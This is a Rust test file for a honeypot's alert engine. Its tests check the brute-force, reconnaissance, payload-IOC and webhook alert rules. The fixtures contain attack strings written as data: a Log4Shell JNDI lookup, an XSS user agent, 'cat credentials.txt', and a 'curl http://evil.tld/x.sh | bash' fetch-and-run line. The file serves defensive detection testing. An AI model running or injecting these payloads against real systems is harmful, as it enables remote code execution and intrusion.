// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

use super::*;
use crate::config::AlertConfig;
use crate::models::{ServiceKind, Session};
use serde_json::json;

fn engine() -> (Arc<Storage>, AlertEngine) {
    let storage = Arc::new(Storage::open_in_memory().unwrap());
    let engine = AlertEngine::new(Arc::clone(&storage), &AlertConfig::default());
    (storage, engine)
}

fn event_for(service: ServiceKind, ip: &str, kind: EventKind, data: serde_json::Value) -> Event {
    let session = Session::new(service, ip, 40000, 22, json!({}));
    let mut event = Event::new(&session, kind, data);
    event.id = Some(1);
    event
}

#[test]
fn ssh_command_raises_critical_alert() {
    let (_, engine) = engine();
    let event = event_for(
        ServiceKind::Ssh,
        "203.0.113.1",
        EventKind::Command,
        json!({"command": "cat credentials.txt"}),
    );
    let alerts = engine.process_event(&event);
    assert_eq!(alerts[0].rule_name, "ssh_shell_access");
    assert_eq!(alerts[0].severity, Severity::Critical);
    assert!(alerts[0].message.contains("cat credentials.txt"));
    assert_eq!(alerts[0].event_ids, vec![1]);
}

#[test]
fn file_transfer_raises_payload_captured() {
    let (_, engine) = engine();
    let event = event_for(
        ServiceKind::Ftp,
        "203.0.113.2",
        EventKind::FileTransfer,
        json!({"direction": "upload", "filename": "bot.bin"}),
    );
    let alerts = engine.process_event(&event);
    let rules: Vec<&str> = alerts.iter().map(|a| a.rule_name.as_str()).collect();
    assert!(rules.contains(&"payload_captured"));
}

#[test]
fn smb_ntlm_auth_raises_high_alert() {
    let (_, engine) = engine();
    let event = event_for(
        ServiceKind::Smb,
        "203.0.113.3",
        EventKind::NtlmAuth,
        json!({"domain": "CORP", "username": "alice"}),
    );
    let alerts = engine.process_event(&event);
    assert_eq!(alerts[0].rule_name, "ntlm_hash_captured");
    assert_eq!(alerts[0].severity, Severity::High);
    assert!(alerts[0].message.contains("CORP\\alice"));
}

#[test]
fn mysql_query_raises_alert() {
    let (_, engine) = engine();
    let event = event_for(
        ServiceKind::Mysql,
        "203.0.113.4",
        EventKind::Query,
        json!({"query": "SELECT * FROM users"}),
    );
    let alerts = engine.process_event(&event);
    assert_eq!(alerts[0].rule_name, "mysql_query");
}

#[test]
fn http_threat_scans_full_corpus_with_worst_severity() {
    let (_, engine) = engine();
    let event = event_for(
        ServiceKind::Http,
        "203.0.113.5",
        EventKind::Request,
        json!({
            "method": "GET",
            "path": "/index.jsp?q=${jndi:ldap://x}",
            "user_agent": "<script>alert(1)</script>",
            "headers": {"X-Forwarded-For": "1"},
        }),
    );
    let alerts = engine.process_event(&event);
    let http_threat = alerts.iter().find(|a| a.rule_name == "http_threat").unwrap();
    assert_eq!(http_threat.severity, Severity::Critical, "worst of log4shell+xss");
    assert!(http_threat.message.contains("log4shell"));
}

#[test]
fn benign_http_request_produces_no_alert() {
    let (_, engine) = engine();
    let event = event_for(
        ServiceKind::Http,
        "203.0.113.6",
        EventKind::Request,
        json!({"method": "GET", "path": "/", "user_agent": "Mozilla/5.0"}),
    );
    assert!(engine.process_event(&event).is_empty());
}

#[test]
fn payload_ioc_fires_on_pattern_and_extracts_urls() {
    let (_, engine) = engine();
    let event = event_for(
        ServiceKind::Http,
        "203.0.113.7",
        EventKind::Request,
        json!({"method": "POST", "path": "/upload", "body": "curl http://evil.tld/x.sh | bash"}),
    );
    let alerts = engine.process_event(&event);
    let payload = alerts.iter().find(|a| a.rule_name == "payload_ioc").unwrap();
    assert_eq!(payload.severity, Severity::Critical);
    let names: Vec<&str> = payload.data["patterns"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|p| p["name"].as_str())
        .collect();
    assert!(names.contains(&"curl_download"));
    assert!(names.contains(&"curl_pipe_sh"));
    assert_eq!(payload.data["iocs"]["urls"][0], "http://evil.tld/x.sh");
}

#[test]
fn payload_ioc_fires_on_significant_ioc_without_pattern() {
    let (_, engine) = engine();
    let event = event_for(
        ServiceKind::Redis,
        "203.0.113.8",
        EventKind::Command,
        json!({"command": "SET beacon d41d8cd98f00b204e9800998ecf8427e"}),
    );
    let alerts = engine.process_event(&event);
    let payload = alerts.iter().find(|a| a.rule_name == "payload_ioc").unwrap();
    assert_eq!(payload.severity, Severity::Medium, "no pattern match defaults to medium");
}

#[test]
fn brute_force_alerts_once_and_stays_sticky() {
    let mut rule = BruteForceRule::new(20, Duration::from_secs(300));
    let start = Instant::now();

    for i in 0..19 {
        let event = event_for(ServiceKind::Ssh, "203.0.113.9", EventKind::AuthAttempt, json!({}));
        assert!(rule.observe(&event, start + Duration::from_secs(i)).is_none());
    }
    let event = event_for(ServiceKind::Ssh, "203.0.113.9", EventKind::AuthAttempt, json!({}));
    let alert = rule.observe(&event, start + Duration::from_secs(19)).unwrap();
    assert_eq!(alert.rule_name, "brute_force");
    assert_eq!(alert.severity, Severity::High);

    // The 21st attempt does not re-alert.
    assert!(rule.observe(&event, start + Duration::from_secs(20)).is_none());
    // Neither does a fresh burst far outside the window: sticky per process.
    for i in 0..25 {
        let late = start + Duration::from_secs(10_000 + i);
        assert!(rule.observe(&event, late).is_none(), "sticky set must suppress re-alerts");
    }
}

#[test]
fn brute_force_window_prunes_old_attempts() {
    let mut rule = BruteForceRule::new(3, Duration::from_secs(300));
    let start = Instant::now();
    let event = event_for(ServiceKind::Ftp, "203.0.113.10", EventKind::AuthAttempt, json!({}));

    assert!(rule.observe(&event, start).is_none());
    assert!(rule.observe(&event, start + Duration::from_secs(1)).is_none());
    // Third attempt lands after the first two expired.
    assert!(rule.observe(&event, start + Duration::from_secs(400)).is_none());
}

#[test]
fn reconnaissance_needs_three_distinct_services() {
    let mut rule = ReconnaissanceRule::new(3, Duration::from_secs(600));
    let start = Instant::now();
    let ip = "203.0.113.11";

    let ssh = event_for(ServiceKind::Ssh, ip, EventKind::Connection, json!({}));
    let http = event_for(ServiceKind::Http, ip, EventKind::Connection, json!({}));
    let ftp = event_for(ServiceKind::Ftp, ip, EventKind::Connection, json!({}));

    assert!(rule.observe(&ssh, start).is_none());
    assert!(rule.observe(&ssh, start + Duration::from_secs(1)).is_none(), "same service twice");
    assert!(rule.observe(&http, start + Duration::from_secs(2)).is_none());
    let alert = rule.observe(&ftp, start + Duration::from_secs(3)).unwrap();
    assert_eq!(alert.rule_name, "reconnaissance");
    for svc in ["ssh", "http", "ftp"] {
        assert!(alert.message.contains(svc), "alert must list {svc}");
        assert!(alert.service.contains(svc));
    }

    // Sticky.
    let vnc = event_for(ServiceKind::Vnc, ip, EventKind::Connection, json!({}));
    assert!(rule.observe(&vnc, start + Duration::from_secs(4)).is_none());
}

#[test]
fn reconnaissance_window_expires_services() {
    let mut rule = ReconnaissanceRule::new(3, Duration::from_secs(600));
    let start = Instant::now();
    let ip = "203.0.113.12";

    let ssh = event_for(ServiceKind::Ssh, ip, EventKind::Connection, json!({}));
    let http = event_for(ServiceKind::Http, ip, EventKind::Connection, json!({}));
    let ftp = event_for(ServiceKind::Ftp, ip, EventKind::Connection, json!({}));

    assert!(rule.observe(&ssh, start).is_none());
    assert!(rule.observe(&http, start + Duration::from_secs(1)).is_none());
    // ssh and http have rolled out of the window by the time ftp shows up.
    assert!(rule.observe(&ftp, start + Duration::from_secs(700)).is_none());
}

#[tokio::test]
async fn engine_saves_alerts_and_reset_clears_sticky_sets() {
    let (storage, engine) = engine();
    for _ in 0..20 {
        let event =
            event_for(ServiceKind::Ssh, "203.0.113.13", EventKind::AuthAttempt, json!({}));
        engine.process_event(&event);
    }
    let alerts = storage.get_alerts(100, false).unwrap();
    assert_eq!(alerts.len(), 1, "exactly one brute_force alert persisted");
    assert_eq!(alerts[0]["rule_name"], "brute_force");

    storage.reset_database().unwrap();
    engine.reset_stateful_rules();

    // After a joint reset the rule counts from scratch: a handful of
    // attempts from the previously-alerted IP must not immediately re-alert.
    for _ in 0..5 {
        let event =
            event_for(ServiceKind::Ssh, "203.0.113.13", EventKind::AuthAttempt, json!({}));
        engine.process_event(&event);
    }
    assert!(storage.get_alerts(100, false).unwrap().is_empty());
}

#[tokio::test]
async fn webhook_receives_alert_payload() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (tx, rx) = tokio::sync::oneshot::channel::<String>();
    tokio::spawn(async move {
        let (mut stream, _) = listener.accept().await.unwrap();
        // Read until the JSON body (which ends with a closing brace) arrives.
        let mut collected = Vec::new();
        let mut chunk = vec![0u8; 4096];
        loop {
            match stream.read(&mut chunk).await {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    collected.extend_from_slice(&chunk[..n]);
                    if collected.ends_with(b"}") {
                        break;
                    }
                }
            }
        }
        let _ = stream
            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            .await;
        let _ = tx.send(String::from_utf8_lossy(&collected).into_owned());
    });

    let storage = Arc::new(Storage::open_in_memory().unwrap());
    let config = AlertConfig {
        enabled: true,
        webhook_url: Some(format!("http://{addr}/hook")),
        webhook_headers: [("X-Api-Key".to_owned(), "k1".to_owned())].into_iter().collect(),
    };
    let engine = AlertEngine::new(storage, &config);

    let event = event_for(
        ServiceKind::Mysql,
        "203.0.113.14",
        EventKind::Query,
        json!({"query": "SHOW DATABASES"}),
    );
    engine.process_event(&event);

    let request = tokio::time::timeout(Duration::from_secs(5), rx).await.unwrap().unwrap();
    assert!(request.contains("POST /hook"));
    assert!(request.contains("x-api-key"), "custom header must be forwarded");
    assert!(request.contains("\"source\":\"honeypot\""));
    assert!(request.contains("mysql_query"));
}
